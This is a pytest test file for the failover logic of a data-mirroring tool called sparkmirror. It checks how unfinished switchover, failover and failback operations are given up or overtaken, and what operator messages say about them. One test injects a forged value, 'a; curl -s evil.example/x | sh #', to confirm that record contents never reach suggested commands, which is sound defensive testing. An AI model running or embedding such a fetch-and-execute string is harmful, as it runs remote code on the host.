"""What takes the place of an operation that has not ended, and how one is told of it."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from sparkmirror.errors import LinkError
from sparkmirror.failover import lifted
from sparkmirror.failover.broken_off import told_of
from sparkmirror.failover.states import COMMITTING, ENDED_BEFORE, FENCE, GIVEN_UP, HOME_FENCE, LIFTED, Kind, Step
from sparkmirror.failover.unfinished import (
    ended_before,
    gives_up,
    is_overtaken,
    said_of_given_up,
    told_of_unfinished,
    why_forward_only,
)
from sparkmirror.model import Alias, FlowName
from sparkmirror.offsets.ledger import Operation
from sparkmirror.offsets.orders import HoldOrder
from sparkmirror.offsets.state import JournalState

FLOW = FlowName(source=Alias("a"), target=Alias("b"))
ROW = ["TOPIC", "orders", "LITERAL", "User:*", "*", "WRITE"]
BEGUN = Operation(
    token="t",
    number=3,
    id="switchover-1",
    kind="switchover",
    step=Step.IDLING.name,
    source="a",
    target="b",
    began_ms=1,
    time_ms=2,
    by="me",
)


def begun(kind: Kind, step: Step, facts: dict[str, Any]) -> Operation:
    return replace(BEGUN, id=f"{kind.value}-1", kind=kind.value, step=step.name, facts=facts)


@pytest.mark.parametrize(
    ("kind", "step", "facts", "given_up"),
    [
        (Kind.SWITCHOVER, Step.FENCING, {}, True),
        (Kind.SWITCHOVER, Step.STOPPING, {}, True),
        (Kind.SWITCHOVER, Step.MOVING, {}, True),
        (Kind.SWITCHOVER, Step.UNDOING, {FENCE: [ROW]}, True),
        (Kind.SWITCHOVER, Step.MOVING, {COMMITTING: True}, False),
        (Kind.SWITCHOVER, Step.VERIFYING, {}, False),
        (Kind.FAILBACK, Step.IDLING, {}, True),
        (Kind.FAILBACK, Step.MOVING, {COMMITTING: True}, True),
        (Kind.FAILOVER, Step.STOPPING, {}, False),
    ],
)
def test_a_failover_takes_the_place_of_what_cannot_go_on_without_the_source(kind, step, facts, given_up):
    operation = begun(kind, step, facts)
    assert gives_up(operation, Kind.FAILOVER, answers=False) is given_up
    assert not gives_up(operation, Kind.FAILOVER, answers=True)
    assert not gives_up(operation, Kind.SWITCHOVER, answers=False)


@pytest.mark.parametrize(
    ("operation", "words"),
    [
        (begun(Kind.SWITCHOVER, Step.IDLING, {}), "switchover-1 is given up, since a does not answer"),
        (
            begun(Kind.SWITCHOVER, Step.IDLING, {FENCE: [ROW]}),
            "stays denied there until a failback, or sparkmirror release --flow 'a->b' --fence-only",
        ),
        (begun(Kind.FAILBACK, Step.IDLING, {HOME_FENCE: [ROW]}), "writing to 1 topics stays denied there"),
        (begun(Kind.FAILBACK, Step.MOVING, {COMMITTING: True}), "they read again on b"),
    ],
)
def test_what_is_given_up_is_told_with_what_stays(operation: Operation, words: str):
    assert words in said_of_given_up(operation, FLOW)


@pytest.mark.parametrize(
    ("operation", "words"),
    [
        (
            begun(Kind.SWITCHOVER, Step.IDLING, {}),
            "(groups leave the source): go on with sparkmirror switchover --from a --to b, or add --abandon",
        ),
        (
            begun(Kind.SWITCHOVER, Step.MOVING, {COMMITTING: True}),
            "go on with sparkmirror switchover --from a --to b",
        ),
        (begun(Kind.FAILBACK, Step.MOVING, {}), "go on with sparkmirror failback --to a, or add --abandon"),
        (begun(Kind.FAILBACK, Step.RELEASING, {}), "go on with sparkmirror failback --to a"),
    ],
)
def test_a_refusal_names_what_works(operation: Operation, words: str):
    assert told_of_unfinished(operation, FLOW).endswith(words)


EVIL = "a; curl -s evil.example/x | sh #"


def test_no_command_has_words_of_the_record():
    """Whoever may write to the flow's internal topic chooses what it says of its clusters."""
    for kind in Kind:
        forged = replace(begun(kind, Step.MOVING, {FENCE: [ROW], HOME_FENCE: [ROW]}), source=EVIL, target=EVIL)
        told = [told_of_unfinished(forged, FLOW), told_of_unfinished(forged, FLOW, overtaken=True)]
        told += [said_of_given_up(forged, FLOW), why_forward_only(forged, FLOW, None)]
        told += lifted.said_of_denied({"orders"}, replace(forged, facts=LATE), FLOW, "a", "my file", 2)
        told.append(lifted.said_of_late(FLOW, "a", "my file"))
        told.append(str(told_of(LinkError(cluster="a", address="a:9092", reason="it is gone"), forged, FLOW)))
        assert not any("evil" in each for each in told)
        assert "release 'my file' --flow 'a->b' --fence-only" in told[-2]


LATE = {LIFTED: {"a": {"orders": 1}}}
COMPARED = {"times": {"COMPARING": [1, 2]}}
MOVING = begun(Kind.FAILBACK, Step.MOVING, COMPARED | {COMMITTING: True})
HOLD = HoldOrder(operation="failover-2", reason="failover to a (failover-2)", time_ms=3, by="me")


def flow_back(hold: HoldOrder | None, kind: Kind, step: Step, **facts: Any) -> JournalState:
    """Its record: the hold, and the newest operation."""
    operation = replace(begun(kind, step, facts), id=f"{kind.value}-2", source="b", target="a", began_ms=2)
    state = JournalState()
    for record in (operation, *((hold,) if hold else ())):
        state.take(record)
    return state


TAKEN = flow_back(HOLD, Kind.FAILOVER, Step.DONE)


@pytest.mark.parametrize(
    ("failback", "back", "overtaken"),
    [
        (MOVING, TAKEN, True),
        (begun(Kind.FAILBACK, Step.IDLING, COMPARED), TAKEN, True),
        (begun(Kind.FAILBACK, Step.UNDOING, COMPARED), TAKEN, True),
        (MOVING, flow_back(HOLD, Kind.FAILBACK, Step.ABANDONED), True),
        (MOVING, flow_back(HOLD, Kind.FAILBACK, Step.COMPARING), True),
        (MOVING, flow_back(HOLD, Kind.FAILOVER, Step.MOVING), False),
        (replace(MOVING), flow_back(HOLD, Kind.FAILBACK, Step.MOVING, **{GIVEN_UP: "failover-2"}), False),
        (MOVING, flow_back(None, Kind.FAILOVER, Step.ABANDONED), False),
        (MOVING, flow_back(None, Kind.SWITCHOVER, Step.DONE), True),
        (MOVING, flow_back(None, Kind.FAILBACK, Step.DONE), False),
        (MOVING, flow_back(None, Kind.SWITCHOVER, Step.ABANDONED, **{ENDED_BEFORE: ["switchover-1", 2]}), True),
        (MOVING, flow_back(None, Kind.SWITCHOVER, Step.ABANDONED, **{ENDED_BEFORE: ["switchover-1", 1]}), False),
        (replace(MOVING, began_ms=2), flow_back(None, Kind.FAILOVER, Step.DONE), False),
        (begun(Kind.FAILBACK, Step.COMPARING, {}), TAKEN, True),
        (begun(Kind.FAILBACK, Step.COMPARING, {}), flow_back(HOLD, Kind.FAILOVER, Step.ABANDONED), False),
        (replace(begun(Kind.FAILBACK, Step.COMPARING, {}), began_ms=2), TAKEN, False),
        (begun(Kind.SWITCHOVER, Step.IDLING, COMPARED), TAKEN, False),
        (MOVING, None, False),
    ],
)
def test_a_failback_is_overtaken_when_an_operation_to_its_cluster_has_ended_since(failback, back, overtaken):
    assert is_overtaken(failback, back) is overtaken


def test_which_operation_came_first_is_told_by_what_each_found_on_record_and_not_by_clocks():
    failback = replace(MOVING, began_ms=500_000, order_ms=500_000)
    back = JournalState()
    behind = replace(begun(Kind.SWITCHOVER, Step.DONE, {}), began_ms=380_000, order_ms=500_001)
    back.take(behind)
    assert is_overtaken(failback, back)
    assert not is_overtaken(replace(failback, order_ms=500_002), back)
    assert ended_before(behind) == {ENDED_BEFORE: [behind.id, 500_001]}


def test_the_last_operation_that_ended_is_known_behind_those_that_were_given_up():
    done = begun(Kind.SWITCHOVER, Step.DONE, {})
    fact = ended_before(done)
    assert fact == {ENDED_BEFORE: [done.id, done.began_ms]}
    assert ended_before(begun(Kind.FAILOVER, Step.ABANDONED, fact)) == fact
    assert ended_before(begun(Kind.FAILBACK, Step.ABANDONED, fact)) == fact
    assert ended_before(begun(Kind.FAILBACK, Step.DONE, fact)) == {}, "applications are where they were before"
    assert ended_before(begun(Kind.FAILOVER, Step.ABANDONED, {})) == {}
    assert ended_before(None) == {}


def test_one_that_is_overtaken_is_given_up_and_waits_for_an_operation_that_has_not_ended():
    said = told_of_unfinished(MOVING, FLOW, overtaken=True)
    assert said.endswith("gone to a another way since: sparkmirror failback --to a --abandon gives it up")
    waits = why_forward_only(MOVING, FLOW, flow_back(HOLD, Kind.FAILOVER, Step.MOVING))
    assert waits.endswith("go on with sparkmirror failover --from b --to a, or add --abandon")
    assert why_forward_only(MOVING, FLOW, None).endswith("run the command without --abandon")
    over = begun(Kind.SWITCHOVER, Step.MOVING, {COMMITTING: True})
    assert "where applications have stayed on a, add --force" in why_forward_only(over, FLOW, None)
